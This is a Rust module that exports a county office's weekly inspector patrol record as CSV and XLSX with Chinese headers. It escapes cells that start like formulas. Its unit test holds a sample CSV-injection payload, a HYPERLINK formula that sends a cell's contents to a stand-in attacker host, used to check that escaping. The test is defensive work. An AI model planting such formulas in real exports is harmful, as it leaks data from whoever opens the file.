//! The weekly record as files a county office files away: CSV (UTF-8 with a byte-order mark, so
//! that Excel reads the Chinese) and XLSX (a summary sheet, then a sheet per township), with
//! Chinese headers. The JSON is the API's own answer.

use rust_xlsxwriter::{Format, Workbook, Worksheet, XlsxError};

use super::record::{TownshipWeek, VillageWeek, WeekRecord};

/// The columns of a township sheet and of the CSV: one row per inspector of each village.
pub const DETAIL_HEADERS: [&str; 12] = [
    "乡镇",
    "网格编码",
    "网格名称",
    "网格状态",
    "网格员",
    "应巡查次数",
    "巡查次数",
    "有效巡查次数",
    "是否达标",
    "未计入的巡查及原因",
    "提示",
    "重点点位（本月巡查/要求）",
];

pub const SUMMARY_HEADERS: [&str; 8] = [
    "乡镇编码",
    "乡镇",
    "网格数",
    "达标网格",
    "不足网格",
    "无巡查网格",
    "完成率",
    "有效巡查次数",
];

fn status(village: &VillageWeek) -> &'static str {
    match village.status.as_str() {
        "met" => "达标",
        "short" => "不足",
        _ => "无巡查",
    }
}

/// The detail rows of one township.
fn rows(township: &TownshipWeek) -> Vec<[String; 12]> {
    let mut rows = Vec::new();
    for village in &township.villages {
        let not_counted = |user: Option<i64>| {
            village
                .not_counted
                .iter()
                .filter(|n| user.is_none_or(|u| n.inspector_id == u))
                .map(|n| format!("{}：{}", &n.patrol_id, n.reasons.join("；")))
                .collect::<Vec<_>>()
                .join("\n")
        };
        let soft = village
            .soft_flags
            .iter()
            .map(|f| f.message.clone())
            .collect::<Vec<_>>()
            .join("\n");
        let points = village
            .key_points
            .iter()
            .map(|k| {
                format!(
                    "{} {}/{}",
                    k.name, k.visits_this_month, k.required_per_month
                )
            })
            .collect::<Vec<_>>()
            .join("\n");
        let cells = |name: String,
                     required: String,
                     patrols: String,
                     counted: String,
                     met: &str,
                     why: String| {
            [
                township.grid.name.clone(),
                village.grid.code.clone(),
                village.grid.name.clone(),
                status(village).to_string(),
                name,
                required,
                patrols,
                counted,
                met.to_string(),
                why,
                soft.clone(),
                points.clone(),
            ]
        };
        if village.inspectors.is_empty() {
            rows.push(cells(
                "（无网格员）".into(),
                String::new(),
                village.rollup.patrols.to_string(),
                village.rollup.counted.to_string(),
                "否",
                not_counted(None),
            ));
        }
        for person in &village.inspectors {
            rows.push(cells(
                format!("{}（{}）", person.name, person.username),
                person.required.to_string(),
                person.patrols.to_string(),
                person.counted.to_string(),
                if person.met { "是" } else { "否" },
                not_counted(Some(person.user_id)),
            ));
        }
    }
    rows
}

/// A cell a spreadsheet would take for a formula (`=`, `+`, `-`, `@`, a tab or a carriage return
/// first: CSV injection, OWASP) is prefixed with `'`, which the spreadsheet shows as text. Names
/// and notes come from people; no figure of ours starts with one of these.
fn neutral(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// The record as CSV: a title line, the headers, a row per inspector of every village.
pub fn csv(record: &WeekRecord) -> Vec<u8> {
    let quote = |cell: &str| {
        let cell = neutral(cell);
        if cell.contains([',', '"', '\n', '\r']) {
            format!("\"{}\"", cell.replace('"', "\"\""))
        } else {
            cell.to_string()
        }
    };
    let mut out = String::from("\u{feff}");
    out.push_str(&DETAIL_HEADERS.map(quote).join(","));
    out.push_str("\r\n");
    for township in &record.townships {
        for row in rows(township) {
            out.push_str(&row.iter().map(|c| quote(c)).collect::<Vec<_>>().join(","));
            out.push_str("\r\n");
        }
    }
    out.into_bytes()
}

/// The record as XLSX: `汇总` (the summary per township and the total), then a sheet per
/// township with a row per inspector of each village.
pub fn xlsx(record: &WeekRecord) -> Result<Vec<u8>, XlsxError> {
    let mut workbook = Workbook::new();
    let bold = Format::new().set_bold();
    let percent = Format::new().set_num_format("0.0%");
    let wrap = Format::new().set_text_wrap();

    let summary = workbook.add_worksheet().set_name("汇总")?;
    let title = format!(
        "{}（{}）巡查台账 {}（{} 至 {}）",
        record.grid.name, record.grid.code, record.week, record.starts, record.ends
    );
    summary.write_string_with_format(0, 0, &title, &bold)?;
    if let Some(signoff) = &record.signoff {
        summary.write_string(
            1,
            0,
            format!(
                "已签收：{} 于 {}{}；内容哈希 {}",
                signoff.signed_by_name,
                signoff.signed_at.format("%Y-%m-%d %H:%M"),
                if signoff.late { "（逾期）" } else { "" },
                signoff.content_hash
            ),
        )?;
    }
    for (col, header) in SUMMARY_HEADERS.iter().enumerate() {
        summary.write_string_with_format(2, col as u16, *header, &bold)?;
    }
    let mut row = 3;
    for township in &record.townships {
        let r = &township.rollup;
        summary.write_string(row, 0, &township.grid.code)?;
        summary.write_string(row, 1, &township.grid.name)?;
        summary.write_number(row, 2, r.villages)?;
        summary.write_number(row, 3, r.villages_met)?;
        summary.write_number(row, 4, r.villages_short)?;
        summary.write_number(row, 5, r.villages_without_patrols)?;
        summary.write_number_with_format(row, 6, r.completion_rate, &percent)?;
        summary.write_number(row, 7, r.counted)?;
        row += 1;
    }
    let total = &record.summary;
    summary.write_string_with_format(row, 1, "合计", &bold)?;
    summary.write_number(row, 2, total.villages)?;
    summary.write_number(row, 3, total.villages_met)?;
    summary.write_number(row, 4, total.villages_short)?;
    summary.write_number(row, 5, total.villages_without_patrols)?;
    summary.write_number_with_format(row, 6, total.completion_rate, &percent)?;
    summary.write_number(row, 7, total.counted)?;
    summary.set_column_width(1, 18)?;

    for township in &record.townships {
        let sheet = workbook.add_worksheet();
        // Sheet names: at most 31 characters, unique; a township's name is.
        sheet.set_name(sheet_name(&township.grid.name, &township.grid.code))?;
        township_sheet(sheet, township, &bold, &wrap)?;
    }
    workbook.save_to_buffer()
}

fn sheet_name(name: &str, code: &str) -> String {
    let cleaned: String = name
        .chars()
        .filter(|c| !matches!(c, '[' | ']' | ':' | '*' | '?' | '/' | '\\'))
        .collect();
    let cleaned = if cleaned.is_empty() {
        code.to_string()
    } else {
        cleaned
    };
    cleaned.chars().take(31).collect()
}

fn township_sheet(
    sheet: &mut Worksheet,
    township: &TownshipWeek,
    bold: &Format,
    wrap: &Format,
) -> Result<(), XlsxError> {
    for (col, header) in DETAIL_HEADERS.iter().enumerate() {
        sheet.write_string_with_format(0, col as u16, *header, bold)?;
    }
    for (index, row) in rows(township).iter().enumerate() {
        let r = index as u32 + 1;
        for (col, cell) in row.iter().enumerate() {
            // Counts as numbers, so that a supervisor can sum them.
            if (5..=7).contains(&col)
                && let Ok(number) = cell.parse::<u32>()
            {
                sheet.write_number(r, col as u16, number)?;
            } else if col >= 9 {
                sheet.write_string_with_format(r, col as u16, cell, wrap)?;
            } else {
                sheet.write_string(r, col as u16, cell)?;
            }
        }
    }
    sheet.set_column_width(2, 16)?;
    sheet.set_column_width(4, 28)?;
    sheet.set_column_width(9, 60)?;
    sheet.set_column_width(10, 40)?;
    sheet.set_column_width(11, 30)?;
    sheet.set_freeze_panes(1, 0)?;
    Ok(())
}

/// `巡查台账_榕江县_522632_2026-W48.xlsx`.
pub fn file_name(record: &WeekRecord, extension: &str) -> String {
    format!(
        "巡查台账_{}_{}_{}.{extension}",
        record.grid.name, record.grid.code, record.week
    )
}

#[cfg(test)]
mod tests {
    use super::neutral;

    /// Issue 22, finding 5: a display name `=HYPERLINK(…)` landed in the CSV as a formula.
    #[test]
    fn cells_that_would_be_formulas_are_text() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            assert_eq!(neutral(cell), format!("'{cell}"));
        }
        for cell in ["张伟", "12", "0.85", "车民街道", "a=b"] {
            assert_eq!(neutral(cell), cell);
        }
    }
}
